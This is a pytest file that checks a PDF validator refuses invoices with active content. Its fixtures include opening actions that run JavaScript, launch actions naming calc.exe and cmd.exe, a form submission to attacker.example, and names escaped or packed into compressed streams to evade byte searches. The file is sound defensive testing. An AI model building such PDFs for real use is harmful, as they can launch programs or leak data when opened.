"""PDFs that would run code or act when opened are refused before they are stored or sent to
Qonto (issue 19, finding 2). The files are built here; the check walks pypdf's object tree, so
escaped names and objects packed into compressed object streams do not slip through."""

from __future__ import annotations

import io
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from connectors.pdf import DocumentRejected, validate_document
from tests.connectors.test_pdf import (
    PAGES,
    assemble_pdf,
    assemble_pdf_with_object_streams,
    simple_pdf,
)

PAGE_OBJECTS = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
]


def with_catalog(extra: bytes, *more: bytes) -> bytes:
    return assemble_pdf([b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>", *PAGE_OBJECTS, *more])


OPEN_ACTION_JS = with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert('hi')) >>")


def _written(change) -> bytes:
    """A real fpdf2 invoice run through pypdf's writer with `change(writer)` applied."""
    writer = PdfWriter(clone_from=io.BytesIO(simple_pdf()))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(kind: str):
    def change(writer):
        action = DictionaryObject(
            {NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("calc.exe")}
        )
        if kind == "/JavaScript":
            action[NameObject("/JS")] = TextStringObject("this.submitForm('https://x.example')")
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return change


def _page_aa(writer):
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


def _named_js(writer):
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    names = ArrayObject([TextStringObject("hello"), writer._add_object(script)])
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )


def _compressed_object_stream() -> bytes:
    """Catalog (with an /OpenAction script) and page tree packed in one deflated stream."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>"
    header = b"1 0 2 %d " % (len(catalog) + 1)
    data = zlib.compress(header + catalog + b" " + PAGES + b" ")
    return (
        b"<< /Type /ObjStm /N 2 /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
        % (len(header), len(data))
        + data
        + b"\nendstream"
    )


HOSTILE = {
    "open-action-javascript": (OPEN_ACTION_JS, "JavaScript"),
    "open-action-javascript-written-by-pypdf": (
        _written(_open_action("/JavaScript")),
        "JavaScript",
    ),
    "open-action-launch": (_written(_open_action("/Launch")), "a launch action"),
    "names-javascript": (_written(_named_js), "JavaScript"),
    "page-additional-actions": (_written(_page_aa), "automatic actions (/AA)"),
    # `#4A` is `J`: the bytes never spell /JavaScript or /JS, the parsed names do.
    "escaped-names": (
        with_catalog(b"/OpenAction << /S /#4AavaScript /#4AS (app.alert(1)) >>"),
        "JavaScript",
    ),
    "link-annotation-launch": (
        assemble_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                PAGE_OBJECTS[0],
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
                b"/A << /S /Launch /F (cmd.exe) >> >>",
            ]
        ),
        "a launch action",
    ),
    "submit-form": (
        with_catalog(b"/OpenAction << /S /SubmitForm /F (https://attacker.example/) >>"),
        "a form that sends data",
    ),
    # Packed into a compressed object stream: nothing of it is visible in the file's bytes.
    "javascript-in-an-object-stream": (
        assemble_pdf_with_object_streams(
            loose={3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"},
            packed={1: (5, 0), 2: (5, 1)},
            streams={5: _compressed_object_stream()},
        ),
        "JavaScript",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_pdf_that_would_run_or_launch_something_is_refused_with_the_reason(case):
    content, what = HOSTILE[case]

    with pytest.raises(DocumentRejected) as caught:
        validate_document(content, filename="invoice.pdf")

    assert caught.value.code == "active_content"
    assert what in caught.value.reason
    assert caught.value.reason.startswith("The PDF contains ")


def test_javascript_packed_in_an_object_stream_is_invisible_to_a_search_of_the_bytes():
    content, _ = HOSTILE["javascript-in-an-object-stream"]
    assert b"JavaScript" not in content and b"/JS" not in content


def test_a_plain_invoice_with_a_go_to_open_action_is_accepted():
    def go_to_first_page(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(
            DictionaryObject(
                {NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): TextStringObject("p1")}
            )
        )

    assert validate_document(_written(go_to_first_page), filename="i.pdf").page_count == 1


def test_an_e_invoice_with_its_embedded_xml_is_accepted():
    # Factur-X and ZUGFeRD invoices carry their XML as an embedded file: that is not refused.
    def embed(writer):
        writer.add_attachment("factur-x.xml", b"<?xml version='1.0'?><Invoice/>")

    assert validate_document(_written(embed), filename="i.pdf").page_count == 1
